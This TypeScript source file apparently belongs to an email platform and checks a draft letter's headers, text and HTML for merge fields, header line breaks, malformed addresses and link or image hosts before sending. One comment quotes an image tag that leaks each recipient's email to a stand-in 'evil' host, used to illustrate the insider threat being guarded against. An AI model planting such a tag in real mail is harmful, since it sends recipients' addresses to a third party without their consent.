import { parseEmailAddress } from '@waxseal/core'
import { type ContentProblem, type ContentRule, checkContent } from '@waxseal/policy'
import type { Problem } from '../answer.js'
import type { Draft } from './draft.js'
import { Findings } from './findings.js'
import { checkHtml } from './html.js'
import { findMergeFields } from './merge-fields.js'
import { findAddressesInText } from './web-address.js'

/** Longest HTML that is inspected, in UTF-16 code units. Mail programs cut letters at about a fifth of this. */
export const MAX_HTML = 500_000

/**
 * Step 2 of the pipeline. The letter itself is an insider's easiest road to the base (`<img src="https://evil/?e={{Email}}">`,
 * a reply-to of his own, a merge field in the subject), so everything in it that could carry a contact's data away
 * must be named by a grant. An empty answer means that one grant allows the whole letter.
 */
export function inspectContent(draft: Draft, anyOf: readonly ContentRule[]): readonly Problem[] {
  const findings = new Findings()
  for (const text of [draft.from, draft.fromName ?? '', draft.replyTo ?? '', draft.subject]) {
    findMergeFields(text, findings)
    if (/[\r\n\0]/.test(text)) findings.fault('header-break', 'header fields may not hold line breaks')
  }
  for (const address of [draft.from, draft.replyTo]) {
    if (address !== undefined && parseEmailAddress(address) === undefined) {
      findings.fault('address-malformed', 'sender and reply-to must be bare addresses')
    }
  }
  checkHeaderWords(draft, findings)
  if (draft.text !== undefined) {
    findMergeFields(draft.text, findings)
    if (draft.text.length > MAX_HTML) findings.fault('text-too-long', `the text is longer than ${MAX_HTML} characters`)
    else findAddressesInText(draft.text, findings)
  }
  if (draft.html !== undefined) {
    // The raw text too: a merge field may stand where no parser looks, and providers merge before anyone parses.
    findMergeFields(draft.html, findings)
    if (draft.html.length > MAX_HTML)
      findings.fault('html-too-long', `the letter is longer than ${MAX_HTML} characters`)
    else checkHtml(draft.html, findings)
  }
  const problems = checkContent(
    {
      from: draft.from,
      ...(draft.replyTo === undefined ? {} : { replyTo: draft.replyTo }),
      mergeFields: [...findings.mergeFields].sort(),
      linkHosts: [...findings.linkHosts].sort(),
      imageHosts: [...findings.imageHosts].sort(),
    },
    anyOf,
  )
  return [...findings.faults, ...problems.map(toProblem)]
}

/** Names and subjects that some program on the way would take for a second address or for another spelling of one. */
function checkHeaderWords({ fromName = '', subject }: Draft, findings: Findings): void {
  if (/[<>"@,;:()[\]\\]|=\?/.test(fromName)) {
    findings.fault('sender-name', 'the name of the sender may not hold any of `<>"@,;:()[]\\` or `=?`')
  }
  if (subject.includes('=?'))
    findings.fault('subject-encoded', 'the subject may not hold `=?`: it is encoded on the way')
  findAddressesInText(`${fromName} ${subject}`, findings)
}

/** Fields and hosts are named to the author of the letter; addresses are not repeated. */
function toProblem({ code, message, value }: ContentProblem): Problem {
  const named = code === 'merge-field' || code === 'link-host' || code === 'image-host'
  return { code, message: named ? `${message}: \`${value.slice(0, 100)}\`` : message }
}
